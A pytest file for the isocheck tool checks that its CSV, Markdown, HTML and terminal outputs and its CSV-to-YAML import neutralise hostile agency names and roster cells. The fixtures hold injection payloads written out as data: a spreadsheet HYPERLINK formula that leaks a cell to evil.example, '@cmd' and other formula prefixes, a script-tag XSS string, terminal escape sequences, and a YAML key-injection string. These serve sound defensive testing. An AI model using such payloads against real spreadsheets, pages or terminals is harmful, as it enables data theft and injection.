"""Hostile text in what isocheck writes: CSV formulas, Markdown and HTML, terminal control characters,
and roster cells that try to break out of a YAML value or comment."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from isocheck.cli import cli
from isocheck.facts.parse import load_document
from isocheck.report.escape import csv_cell, markdown_cell, printable

ROOT = Path(__file__).resolve().parent.parent
FACT = ROOT / "fixtures" / "phuong-duc-thuan-2021.yaml"
ROSTER = ROOT / "fixtures" / "province-ha-tinh-2021" / "roster.csv"
HOSTILE = {
    "formula.yaml": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus.yaml": "+SUM(A1:A9)",
    "minus.yaml": "-2+3",
    "at.yaml": "@cmd",
    "pipe.yaml": "UBND | xã <script>alert(1)</script> *đậm*",
    "escape.yaml": "UBND xã \x1b[2J\x1b]0;pwned\x07Thạch\x9b31m",
}


def _run(*args: str):
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


@pytest.fixture
def folder(tmp_path) -> Path:
    data = yaml.safe_load(FACT.read_text(encoding="utf-8"))
    for file, name in HOSTILE.items():
        data["agency"]["name"] = name
        (tmp_path / file).write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return tmp_path


def test_csv_cells_never_start_a_formula(folder):
    out = _run("batch", str(folder), "--as-of", "2021-11-16", "--format", "csv", "--no-cache").stdout
    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff")), delimiter=";"))  # ";" by default
    names = {Path(r[3]).name: r[1] for r in rows[1:]}  # level, name, parent, file
    assert names["formula.yaml"] == "'" + HOSTILE["formula.yaml"]
    assert names["plus.yaml"] == "'+SUM(A1:A9)" and names["minus.yaml"] == "'-2+3" and names["at.yaml"] == "'@cmd"
    assert all(cell[:1] not in "=+-@\t\r" or re.fullmatch(r"-?\d+", cell) for row in rows for cell in row if cell)


def test_csv_cell_keeps_negative_numbers_and_neutralises_tab_and_cr():
    assert csv_cell("-5") == "-5" and csv_cell("-1.5") == "-1.5" and csv_cell(3) == 3
    assert csv_cell("\t=1") == "' =1" and csv_cell("\r=1") == "'\r=1"


@pytest.mark.parametrize(
    "char", ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\x9f", "\u202e", "\u2066", "\u200f", "\u061c"]
)
def test_csv_cell_removes_every_control_and_bidirectional_character(char):
    """Printable text is returned as it is; any other goes through the table of characters to remove."""
    assert csv_cell(f"Hà{char}Tĩnh") == "HàTĩnh"
    assert csv_cell(f"a\tb{char}") == "a b"
    assert csv_cell("a\nb\rc") == "a\nb\rc" and csv_cell("Hà Tĩnh, 1/QĐ") == "Hà Tĩnh, 1/QĐ"


def test_markdown_escapes_pipes_and_html(folder):
    out = _run("batch", str(folder), "--as-of", "2021-11-16", "--format", "md", "--no-cache").stdout
    line = next(line for line in out.splitlines() if "alert" in line)
    assert "\\| xã \\<script\\>alert(1)\\</script\\> \\*đậm\\*" in line
    assert "<script>" not in out
    # the summary (10 columns), the matrix (12), the totals by column (11): an escaped "|" adds no column
    assert {row.count("|") - row.count("\\|") for row in out.splitlines() if row.startswith("| ")} == {11, 12, 13}
    assert markdown_cell("a\nb & c") == "a<br>b &amp; c"


@pytest.mark.parametrize("fmt", ["table", "md", "csv", "html"])
def test_no_control_character_reaches_the_output(folder, fmt):
    out = _run("batch", str(folder), "--as-of", "2021-11-16", "--format", fmt, "--no-cache").stdout
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out.replace("\r\n", "\n"))
    assert "Thạch" in out


def test_check_table_strips_control_characters(folder):
    out = _run("check", str(folder / "escape.yaml"), "--as-of", "2021-11-16").stdout
    assert "\x1b" not in out and "\x07" not in out and "UBND xã [2J]0;pwnedThạch31m" in out


def test_printable():
    assert printable("a\x1b[1mb\u202ec\td") == "a[1mbc d"
    assert printable("x\ny", multiline=True) == "x\ny" and printable("x\ny") == "x y"


def test_a_roster_cell_cannot_break_out_of_the_yaml(tmp_path):
    """YAML in a cell, a file name with a line break: the values come back as written, the comment header
    stays two comment lines, no key is added. A line break inside a number is refused (a control character
    in a code), naming the file, its row and the field, and nothing is written."""
    text = ROSTER.read_text(encoding="utf-8-sig")
    header, first, *_ = text.splitlines()
    cells = next(csv.reader([first], delimiter=";"))
    columns = next(csv.reader([header], delimiter=";"))
    policy = columns.index(next(c for c in columns if c.startswith("Chính sách")))
    roster = tmp_path / "bảng\ntổng hợp\u2028.csv"

    def import_with(cell: str):
        cells[policy] = cell
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerows([columns, cells])
        roster.write_text(buffer.getvalue(), encoding="utf-8")
        return _run("import", str(roster), "-o", str(tmp_path / "facts"))

    refused = import_with("12/QĐ-UBND\nagency: {name: evil}\n# not a comment ngày 05/01/2021")
    assert refused.exit_code == 2 and "qms.quality_policy.number" in refused.output and ".csv:2" in refused.output
    assert not (tmp_path / "facts").exists()
    result = import_with("12/QĐ-UBND agency: {name: evil} # not a comment ngày 05/01/2021")
    assert result.exit_code == 0, result.output
    (written,) = (tmp_path / "facts").iterdir()
    content = written.read_text(encoding="utf-8")
    comments = [line for line in content.splitlines() if line.startswith("#")]
    assert len(comments) == 2 and "bảng\\ntổng hợp\\u2028.csv" in comments[0]
    data, _ = load_document(written)
    assert data["qms"]["quality_policy"]["number"].startswith("12/QĐ-UBND agency: {name: evil} # not")
    assert set(data) == set(yaml.safe_load(content))
    assert "evil" not in json.dumps(data["agency"], ensure_ascii=False)


def test_hostile_names_survive_json_unchanged(folder):
    doc = json.loads(_run("batch", str(folder), "--as-of", "2021-11-16", "--format", "json", "--no-cache").stdout)
    assert {a["id"]: a["name"] for a in doc["agencies"]} == HOSTILE


def test_message_templates_fill_as_string_formatter_does():
    """``fill`` uses ``str.format_map``; a template it cannot fill raises string.Formatter's own error."""
    from isocheck.text.ui import fill

    assert fill("{name:>5}|{name!r}|{{x}}", {"name": "ab"}, "vi") == "   ab|'ab'|{x}"
    with pytest.raises(KeyError, match="placeholder"):
        fill("{missing}", {}, "en")
    with pytest.raises(IndexError):
        fill("{0}", {}, "en")
    with pytest.raises(ValueError):
        fill("{name", {"name": "x"}, "en")
